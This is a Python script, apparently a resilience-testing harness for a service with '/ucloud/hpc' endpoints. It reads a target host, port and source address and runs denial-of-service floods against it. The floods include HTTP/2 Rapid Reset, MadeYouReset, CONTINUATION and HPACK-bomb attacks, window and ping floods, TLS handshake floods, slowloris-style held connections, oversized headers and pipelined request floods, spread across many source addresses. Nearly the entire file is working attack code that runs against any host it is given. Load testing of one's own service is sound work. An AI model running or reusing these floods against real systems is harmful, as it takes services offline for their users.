"""Floods: frames of HTTP/2 that cost whoever receives them more than whoever sends them, handshakes, connections, heads.

Reads one line of JSON (attack, host, port, source, seconds, connections, addresses), attacks for so long, and prints one line: what it has sent and how
its connections ended. Nothing that it receives is believed, and what it breaks is its own connections.
"""

import base64
import collections
import copy
import itertools
import json
import select
import socket
import ssl
import struct
import sys
import threading
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame, DataFrame, GoAwayFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame,
)

CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CONTEXT.check_hostname = False
CONTEXT.verify_mode = ssl.CERT_NONE
CONTEXT.set_alpn_protocols(["h2", "http/1.1"])
PLAIN = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
PLAIN.check_hostname = False
PLAIN.verify_mode = ssl.CERT_NONE

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PAGE = "/ucloud/hpc/intent/calls.json"
DEPOSIT = "/ucloud/hpc/intents"
# Addresses that connections of TLS come from, where they are to be begun at once.
TLS_ADDRESSES = 16


class Target:
    def __init__(self, told):
        self.host, self.port = told["host"], int(told["port"])
        self.source, self.connections = told["source"], int(told["connections"])
        self.addresses = int(told.get("addresses", 1))
        self.end = time.monotonic() + float(told["seconds"])

    def is_over(self):
        return time.monotonic() >= self.end

    def from_another(self, number):
        """The same, from the address that many after the first."""
        other = copy.copy(self)
        first, second, third, last = map(int, self.source.split("."))
        other.source = f"{first}.{second}.{third + number // 250}.{last + number % 250}"
        return other

    def tcp(self):
        return socket.create_connection((self.host, self.port), timeout=10, source_address=(self.source, 0))

    def tls(self, context=CONTEXT):
        return context.wrap_socket(self.tcp(), server_hostname="localhost")

    def head(self, method, path, more=()):
        headers = [(":method", method), (":path", path), (":scheme", "https"), (":authority", f"localhost:{self.port}"), *more]
        # Nothing goes into the table, so that the same bytes are good any number of times.
        return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(name, value) for name, value in headers])


def frame(kind, stream, **fields):
    flags = fields.pop("flags", [])
    made = kind(stream, **fields)
    for flag in flags:
        made.flags.add(flag)
    return made.serialize()


class Frames:
    """A connection of HTTP/2 on which anything may be sent."""

    def __init__(self, target, settings=None):
        self.stream = target.tls()
        self.said = b""
        self.sent = 0
        self.code = None
        self.counts = collections.Counter()
        self.is_open = True
        self.send(PREFACE + frame(SettingsFrame, 0, settings=settings or {}))

    def send(self, data, patience=1.0):
        """Whether it could be sent. Reads meanwhile, as somebody does who wants the flood to go on."""
        view = memoryview(data)
        self.stream.setblocking(False)
        end = time.monotonic() + patience
        while view and self.is_open:
            self.read()
            try:
                count = self.stream.send(view[:65536])
                view = view[count:]
                self.sent += count
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                if time.monotonic() > end:
                    return False
                select.select([self.stream], [self.stream], [], 0.05)
            except OSError:
                self.read()
                self.is_open = False
        return self.is_open

    def push(self, data):
        """Sends without ever reading. Whether there was room."""
        self.stream.setblocking(False)
        try:
            self.sent += self.stream.send(data)
            return True
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
            time.sleep(0.01)
            return False
        except OSError:
            self.is_open = False
            return False

    def read(self):
        self.stream.setblocking(False)
        while True:
            try:
                came = self.stream.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return
            except OSError:
                self.is_open = False
                return
            if not came:
                self.is_open = False
                return
            self.said += came
            self.parse()

    def parse(self):
        while len(self.said) >= 9:
            length = int.from_bytes(self.said[:3], "big")
            if len(self.said) < 9 + length:
                return
            kind, payload = self.said[3], self.said[9:9 + length]
            self.counts[kind] += 1
            if kind == GoAwayFrame.type and length >= 8:
                self.code = struct.unpack(">I", payload[4:8])[0]
            self.said = self.said[9 + length:]

    def close(self, ends):
        ends["goaway %d" % self.code if self.code is not None else "open" if self.is_open else "closed"] += 1
        self.stream.close()


def on_frames(target, make, settings=None, push=False):
    """Connection after connection, on each of which `make` says what is sent next."""
    ends, sent, pieces, largest, answers = collections.Counter(), 0, 0, 0, 0
    while not target.is_over():
        frames = Frames(target, settings)
        for piece in make(target, frames):
            if target.is_over():
                break
            ok = frames.push(piece) if push else frames.send(piece)
            pieces += ok
            if not frames.is_open or frames.code is not None:
                break
        if not push:
            patience = time.monotonic() + 0.5
            while frames.is_open and frames.code is None and time.monotonic() < patience and not target.is_over():
                frames.read()
                time.sleep(0.005)
        if not push:
            frames.read()
        frames.close(ends)
        sent, largest, answers = sent + frames.sent, max(largest, frames.sent), answers + frames.counts[HeadersFrame.type]
    return {"ends": ends, "sent": sent, "pieces": pieces, "largest": largest, "answers": answers}


def streams():
    return range(1, 2**31, 2)


def rapid_reset(target, frames):
    """CVE-2023-44487."""
    block = target.head("GET", PAGE)
    batch = []
    for stream in streams():
        batch.append(frame(HeadersFrame, stream, data=block, flags=["END_HEADERS", "END_STREAM"]) + frame(RstStreamFrame, stream, error_code=8))
        if len(batch) == 100:
            yield b"".join(batch)
            batch = []


def made_you_reset(target, frames):
    """CVE-2025-8671: it is the server that resets, for errors of ours."""
    block = target.head("GET", PAGE)
    for stream in streams():
        yield frame(HeadersFrame, stream, data=block, flags=["END_HEADERS"]) + raw(8, 0, stream, b"\0\0\0\0")


def raw(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def continuation(target, frames):
    """CVE-2024-27316 and its kin: a head without an end, in frames that are full."""
    yield frame(HeadersFrame, 1, data=target.head("GET", PAGE), flags=["END_STREAM"])
    header = b"\x10\x01x" + b"\x7f\x81\x7c" + b"a" * 16000  # never indexed, a value of 16,000 bytes
    while True:
        yield frame(ContinuationFrame, 1, data=header)


def empty_continuation(target, frames):
    """The same, in frames that hold nothing."""
    yield frame(HeadersFrame, 1, data=target.head("GET", PAGE), flags=["END_STREAM"])
    while True:
        yield frame(ContinuationFrame, 1, data=b"") * 1000


def settings(target, frames):
    while True:
        yield frame(SettingsFrame, 0, settings={4: 65535}) * 1000


def pings(target, frames):
    while True:
        yield frame(PingFrame, 0, opaque_data=b"12345678") * 1000


def empty_data(target, frames):
    """CVE-2019-9518: a body that goes on and never gets longer."""
    yield frame(HeadersFrame, 1, data=target.head("POST", DEPOSIT, [("content-type", "application/jwt")]), flags=["END_HEADERS"])
    while True:
        yield frame(DataFrame, 1, data=b"") * 1000


def hpack_bomb(target, frames):
    """CVE-2016-6581: one header of 4,000 bytes in the table, and then thousands of references to it, a byte each."""
    start = target.head("GET", PAGE)
    yield frame(HeadersFrame, 1, data=start + b"\x40\x01x" + b"\x7f\xa1\x1e" + b"a" * 4000, flags=["END_HEADERS", "END_STREAM"])
    for stream in range(3, 2**31, 2):
        yield frame(HeadersFrame, stream, data=start + b"\xbe" * 16000, flags=["END_HEADERS", "END_STREAM"])


def no_window(target, frames):
    """CVE-2019-9517: answers are asked for and no byte of them is taken."""
    block = target.head("GET", PAGE)
    for stream in streams():
        yield frame(HeadersFrame, stream, data=block, flags=["END_HEADERS", "END_STREAM"])


def small_windows(target, frames):
    """CVE-2019-9511: answers are taken a byte at a time."""
    block = target.head("GET", PAGE)
    for stream in range(1, 200, 2):
        yield frame(HeadersFrame, stream, data=block, flags=["END_HEADERS", "END_STREAM"])
    while True:
        yield b"".join(frame(WindowUpdateFrame, stream, window_increment=1) for stream in range(1, 200, 2))


def window_overflow(target, frames):
    while True:
        yield frame(WindowUpdateFrame, 0, window_increment=2**31 - 1)


def handshakes(target):
    """One handshake after the other, whole, on as many threads as there are cores to spend."""
    counts = collections.Counter()

    def work():
        while not target.is_over():
            try:
                target.tls().close()
                counts["done"] += 1
            except OSError:
                counts["refused"] += 1

    threads = [threading.Thread(target=work) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"ends": counts}


def held(target, make):
    """Opens so many connections, lets `make` begin something on each, and holds them until all are closed: how many are not, at the end."""
    counts, streams = collections.Counter(), []
    for _ in range(target.connections):
        try:
            stream = make()
            stream.setblocking(False)
            streams.append(stream)
        except OSError:
            counts["refused"] += 1
    counts["opened"] = len(streams)
    while streams and not target.is_over():
        time.sleep(0.05)
        streams = [stream for stream in streams if is_open(stream)]
    counts["open"] = len(streams)
    counts["closed"] = counts["opened"] - counts["open"]
    for stream in streams:
        stream.close()
    return {"ends": counts}


def is_open(stream):
    """Whatever it says is thrown away."""
    try:
        return bool(stream.recv(65536))
    except (ssl.SSLWantReadError, BlockingIOError):
        return True
    except OSError:
        return False


def is_writable(stream):
    poller = select.poll()  # `select` knows no descriptor above 1023
    poller.register(stream, select.POLLOUT)
    return bool(poller.poll(0))


def begun(target, data, tls, networks=0):
    """`networks`: from as many addresses as TLS needs, which no other attack has used: each has so many handshakes at once."""
    numbers = itertools.count()

    def make():
        own = target.from_another(250 * networks + next(numbers) % TLS_ADDRESSES) if networks else target
        stream = own.tls(PLAIN) if tls else own.tcp()
        stream.sendall(data)
        return stream

    return held(target, make)


class Beginning:
    """A connection that is begun without ever waiting for it: TCP, the handshake, one request, and then it is held."""

    def __init__(self, target):
        self.stream = socket.socket()
        self.stream.setblocking(False)
        self.stream.bind((target.source, 0))
        self.stream.connect_ex((target.host, target.port))
        self.is_held = False
        self.is_tls = False

    def goes_on(self):
        """Whether it is still open, after what could be done for it now."""
        try:
            if not self.is_tls:
                if not is_writable(self.stream):
                    return True
                self.stream = PLAIN.wrap_socket(self.stream, server_hostname="localhost", do_handshake_on_connect=False)
                self.is_tls = True
            if not self.is_held:
                self.stream.do_handshake()
                self.stream.send(b"GET /x HTTP/1.1\r\nHost: localhost\r\n\r\n")
                self.is_held = True
            return is_open(self.stream)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            return True
        except OSError:
            return False


def held_again(target):
    """As many connections as can be had from so many addresses, each with a request, and begun again whenever one is closed."""
    counts, streams = collections.Counter(), {}
    while not target.is_over():
        for number in range(target.connections):
            if number not in streams:
                streams[number] = Beginning(target.from_another(number % target.addresses))
                counts["begun"] += 1
            elif not streams[number].goes_on():
                streams.pop(number).stream.close()
                counts["closed"] += 1
        time.sleep(0.005)
    streams = {number: stream for number, stream in streams.items() if stream.goes_on()}
    counts["open"] = len(streams)
    counts["held"] = sum(stream.is_held for stream in streams.values())
    for stream in streams.values():
        stream.stream.close()
    return {"ends": counts}


def long_heads(target):
    line = b"X-A: " + b"a" * 31000
    return begun(target, b"GET / HTTP/1.1\r\nHost: localhost\r\n" + line, True, networks=1)


def head_bombs(target):
    """Heads as long as can be, and longer, one after the other."""
    counts = collections.Counter()
    bombs = [b"X-A: " + b"a" * 10_000_000, b"X-A: a\r\n" * 1_000_000, b"X-" + b"a" * 10_000_000 + b": a\r\n", b"a" * 10_000_000, b"\r\n" * 1_000_000]
    number = 0
    while not target.is_over():
        with target.tls(PLAIN) as stream:
            try:
                stream.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n" + bombs[number % len(bombs)])
                counts["taken"] += 1
            except OSError:
                counts["ended"] += 1
        number += 1
    return {"ends": counts}


def long_bodies(target):
    """Bodies of which all but the last byte comes."""
    head = b"POST /ucloud/hpc/intents HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/jwt\r\nContent-Length: 262144\r\n\r\n"
    return begun(target, head + b"a" * 262143, True, networks=2)


def refused(target, session):
    """Requests that are refused at once, one behind the other without a pause, on so many connections, each from an address of its own.
    `session` sends on one connection until that ends, and says how many requests it has sent."""
    counts = collections.Counter()

    def work(number):
        own = target.from_another(number)
        while not own.is_over():
            try:
                counts["sent"] += session(own)
                counts["ended"] += 1
            except OSError:
                counts["refused"] += 1
                time.sleep(0.01)

    threads = [threading.Thread(target=work, args=(number,)) for number in range(target.connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"ends": counts}


def pipelined(target, head):
    """HTTP/1.1: a hundred requests at a time."""
    requests, sent = head * 100, 0
    with target.tls(PLAIN) as stream:
        stream.settimeout(0.5)
        while not target.is_over():
            try:
                stream.sendall(requests)
                sent += 100
                if not stream.recv(65536):
                    break
            except TimeoutError:
                pass
            except OSError:
                break
    return sent


def refused_h1(target):
    return pipelined(target, b"GET /x HTTP/1.1\r\nHost: localhost\r\n\r\n")


def refused_token(target):
    """Core's own calls, with a token that is not Core's."""
    return pipelined(target, b"GET /ucloud/hpc/jobs/retrieveProducts HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer a.b.c\r\n\r\n")


def public_pages(target):
    return pipelined(target, b"GET /ucloud/hpc/connect HTTP/1.1\r\nHost: localhost\r\n\r\n")


def refused_h2(target):
    frames = Frames(target)
    block = target.head("GET", "/x")
    stream = 1
    while frames.is_open and frames.code is None and not target.is_over():
        batch = b"".join(frame(HeadersFrame, stream + 2 * each, data=block, flags=["END_HEADERS", "END_STREAM"]) for each in range(50))
        if not frames.send(batch):
            break
        stream += 100
        time.sleep(0.005)
    frames.stream.close()
    return stream // 2


def refused_ws(target):
    """Sockets for Core's calls without a token, and messages on them that are no call of anybody's."""
    key = base64.b64encode(b"0123456789abcdef")
    user = base64.b64encode(b"alice#1234")
    sent = 1
    with target.tls(PLAIN) as stream:
        stream.sendall(
            b"GET /ucloud/hpc/files?usernameHint=" + user + b" HTTP/1.1\r\nHost: localhost\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
            b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + key + b"\r\n\r\n")
        stream.settimeout(0.5)
        text = b'{"call":"files.streamingSearch","streamId":"1","payload":{}}'
        message = bytes([0x81, 0x80 | len(text), 0, 0, 0, 0]) + text
        while not target.is_over():
            try:
                if not stream.recv(65536):
                    break
            except TimeoutError:
                pass
            stream.sendall(message * 40)
            sent += 40
    return sent


ON_FRAMES = {
    "rapid reset": (rapid_reset, None, False),
    "made you reset": (made_you_reset, None, False),
    "continuation": (continuation, None, False),
    "empty continuation": (empty_continuation, None, False),
    "settings": (settings, None, False),
    "settings, unread": (settings, None, True),
    "pings": (pings, None, False),
    "pings, unread": (pings, None, True),
    "empty data": (empty_data, None, False),
    "hpack bomb": (hpack_bomb, None, False),
    "no window": (no_window, {4: 0}, False),
    "small windows": (small_windows, {4: 1}, False),
    "window overflow": (window_overflow, None, False),
}

OTHERS = {
    "handshakes": handshakes,
    "half handshakes": lambda target: begun(target, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", False),
    "connections begun again": held_again,
    "silent connections": lambda target: begun(target, b"", False),
    "long heads": long_heads,
    "head bombs": head_bombs,
    "long bodies": long_bodies,
    "refusals": lambda target: refused(target, refused_h1),
    "refusals of HTTP/2": lambda target: refused(target, refused_h2),
    "refusals on sockets": lambda target: refused(target, refused_ws),
    "refused tokens": lambda target: refused(target, refused_token),
    "public pages": lambda target: refused(target, public_pages),
}


def main():
    for line in sys.stdin:
        told = json.loads(line)
        target = Target(told)
        if told["attack"] in ON_FRAMES:
            make, starting, push = ON_FRAMES[told["attack"]]
            report = on_frames(target, make, starting, push)
        else:
            report = OTHERS[told["attack"]](target)
        print(json.dumps(report), flush=True)


main()
